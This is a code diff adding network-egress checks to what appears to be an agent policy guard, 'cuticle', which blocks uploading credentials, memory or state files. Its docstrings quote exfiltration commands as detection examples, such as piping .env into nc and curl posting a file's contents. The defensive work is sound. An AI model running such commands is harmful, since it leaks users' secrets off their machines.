@@ -20,6 +20,7 @@ curl -T dist/app.tar.gz https://upload.example           # allowed: build output
 
 from __future__ import annotations
 
+from ..paths import is_pattern
 from . import Invariant, Violation
 
 INVARIANT = Invariant("no-network-egress", "network access to hosts that are not allowed; uploading protected files", __doc__)
@@ -39,3 +40,37 @@ def host_violation(tool: str, host: str, allowed_hosts, verb: str = "connects to
         return None
     return Violation(INVARIANT.id, f"{tool} {verb} {host}, which is not in the policy's allowedHosts; add it there "
                      "or ask the user")
+
+
+def secret_in_argument(tool: str) -> Violation:
+    """A network tool's argument holds a protected file's contents (``curl -d "$(cat USER.md)"``)."""
+    return Violation(INVARIANT.id, f"{tool} is handed the contents of a protected file (memory, cuticle's state, "
+                     "the policy or a credential) through a substitution; they never leave the machine")
+
+
+def secret_piped(tool: str) -> Violation:
+    """A protected file's contents are piped into a network tool (``cat .env | nc host 80``)."""
+    return Violation(INVARIANT.id, f"pipes the contents of a protected file (memory, cuticle's state, the policy or "
+                     f"a credential) into {tool}; they never leave the machine")
+
+
+def upload(env, ref, tool: str, cwd: str | None) -> Violation | None:
+    """``tool`` uploads ``ref`` (``curl -T``, ``-F field=@file``, ``--data-binary @file``): denied for a credential,
+    cuticle's own secrets, memory, the policy and cuticle's state, and for a pattern that may be one of them."""
+    if env.is_secret(ref) or env.is_state_secret(ref):
+        return Violation(INVARIANT.id, f"{tool} uploads {ref.display}, a credential or cuticle's own secret; secrets "
+                         "never leave the machine")
+    hit = env.protected(ref)
+    if hit:
+        return Violation(INVARIANT.id, f"{tool} uploads {hit[1]}; memory, the policy and cuticle's state never leave "
+                         "the machine through the shell. Upload other files, or ask the user")
+    if is_pattern(ref.display) and env.reach(ref.abs or ref.display, cwd):
+        return Violation(INVARIANT.id, f"{tool} uploads {ref.display}, which is only known when it runs and may be a "
+                         "protected file; name the file literally")
+    return None
+
+
+def cloud_upload(tool: str, display: str) -> Violation:
+    """A cloud copy (``aws s3 cp``, ``gsutil cp``) sends ``display``, a protected file, to a bucket."""
+    return Violation(INVARIANT.id, f"{tool} uploads {display}, a protected file (memory, cuticle's state, the policy "
+                     "or a credential); it never leaves the machine")
